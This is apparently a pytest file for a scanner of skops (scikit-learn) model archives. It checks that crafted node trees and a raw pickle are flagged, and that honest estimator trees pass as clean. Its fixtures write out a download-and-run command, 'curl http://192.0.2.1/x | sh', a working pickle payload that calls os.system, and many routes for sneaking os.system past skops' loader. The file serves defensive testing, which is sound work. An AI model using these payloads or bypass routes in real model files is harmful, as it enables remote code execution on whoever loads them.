"""skops: what a tree of nodes names is looked up, called and made, whatever it says about types.

The honest trees are those of the library: 197 files that skops 0.16 wrote of scikit-learn's estimators were clean.
"""

import pytest

from scanner.finding import Severity, Verdict
from tests.formats.unwrapping import names
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.skops_files import Node, archive, called, instance, mapping, node, sequence, value

COMMAND = "curl http://192.0.2.1/x | sh"
SYSTEM = node("FunctionNode", "os", "system")
SHELL = node("TypeNode", "torch", "os")
TARGET = {"func": SYSTEM, "args": sequence(value(COMMAND)), "kwds": mapping(), "namespace": value(None)}
HOSTILE = {
    "operator": called(SYSTEM, value(COMMAND)),
    "operator of another module": called(SYSTEM, value(COMMAND)) | {"__module__": "sklearn.base"},
    "constructor": node("ConstructorFromReduceNode", "os", "system", content=sequence(value(COMMAND))),
    "partial": called(node("PartialNode", "functools", "partial", content=TARGET)),
    "type of a key": mapping([node("TypeNode", "os", "system")], **{COMMAND: value(1)}),
    "method": called(
        node("MethodNode", "torch", "os", content={"obj": SHELL, "func": "system"}), value(COMMAND)
    ),
    "loss": node(
        "LossNode", "os", "system", __reduce__={"args": sequence(value(COMMAND))}, content=mapping()
    ),
    "named tuple": node("TupleNode", "os", "system", content=[value(COMMAND)]),
    "protocol 0": called(
        node("FunctionNode", "x", "y", content={"module_path": "os", "function": "system"}), value(COMMAND)
    ),
    "made before": sequence(
        SYSTEM | {"__id__": 7}, called(node("CachedNode", "builtins", "str", __id__=7), value(COMMAND))
    ),
    "deep inside": instance("sklearn.pipeline", "Pipeline", steps=sequence(called(SYSTEM, value(COMMAND)))),
    "arguments made before": sequence(
        sequence(SYSTEM, value(COMMAND)) | {"__id__": 8},
        called() | {"attrs": node("CachedNode", "builtins", "tuple", __id__=8)},
    ),
    "types of keys made before": sequence(
        sequence(node("TypeNode", "os", "system"), kind="list") | {"__id__": 9},
        mapping(**{COMMAND: value(1)}) | {"key_types": node("CachedNode", "builtins", "list", __id__=9)},
    ),
    "keys of older protocols in another node": instance(
        "builtins", "object", a=called(SYSTEM, value(COMMAND))
    )
    | {"content": mapping(a=called(SYSTEM, value(COMMAND))) | {"module_path": "numpy", "function": "sum"}},
    "loader that nobody knows": node("NewNode", "os", "system", content=value(COMMAND)),
}
HONEST = {
    "estimator": instance(
        "sklearn.preprocessing._data",
        "StandardScaler",
        mean_=node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy"),
        with_mean=value(True),
        note=value({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}),
    ),
    "function": instance(
        "sklearn.preprocessing._function_transformer",
        "FunctionTransformer",
        func=node("FunctionNode", "numpy", "log1p"),
    ),
    "partial": node(
        "PartialNode",
        "functools",
        "partial",
        content=TARGET | {"func": node("FunctionNode", "numpy", "clip")},
    ),
    "getter": node("OperatorFuncNode", "operator", "itemgetter", attrs=sequence(value(1))),
    "generator": node("RandomStateNode", "numpy.random.mtrand", "RandomState", content=mapping(pos=value(3))),
    "keys": mapping(
        [node("TypeNode", "builtins", "int"), node("TypeNode", "numpy", "int64")],
        **{"1": value(2), "3": value(4)},
    ),
}


@pytest.mark.parametrize("root", HOSTILE.values(), ids=HOSTILE)
def test_what_a_tree_does_is_judged(root: Node) -> None:
    report = scan(archive(root), "pipeline.skops")
    assert "skops" in report.formats
    assert blocked_for(report) == {"download-and-run"}


@pytest.mark.parametrize("root", HONEST.values(), ids=HONEST)
def test_honest_trees_are_clean(root: Node) -> None:
    report = scan(archive(root), "pipeline.skops")
    assert (report.failure, report.verdict) == (None, Verdict.CLEAN), report.findings


def test_the_class_of_a_container_is_called() -> None:
    for loader in ("ListNode", "SetNode"):
        assert blocked_for(scan(archive(node(loader, "builtins", "exec", content=[value("import os")]))))


def test_a_reference_that_is_kept_is_told() -> None:
    (finding,) = scan(archive(instance("sklearn.base", "BaseEstimator", func=SYSTEM))).findings
    assert (finding.rule, finding.severity) == ("dangerous-reference", Severity.WARNING)


def test_a_pickle_in_place_of_the_archive_is_a_pickle() -> None:
    """A card falls back to joblib (CVE-2025-54886), whatever the file is called."""
    assert blocked_for(scan(b"cos\nsystem\n(S'curl http://192.0.2.1/x | sh'\ntR.", "pipeline.skops"))


def test_other_documents_are_not_skops() -> None:
    assert names(b'{"__class__": "A", "name": "__module__"}') == ["text"]


def test_depth_ends_the_reading_and_is_told() -> None:
    root = value(1)
    for _ in range(300):
        root = sequence(root)
    assert {f.rule for f in scan(archive(root)).findings} == {"incomplete-analysis"}
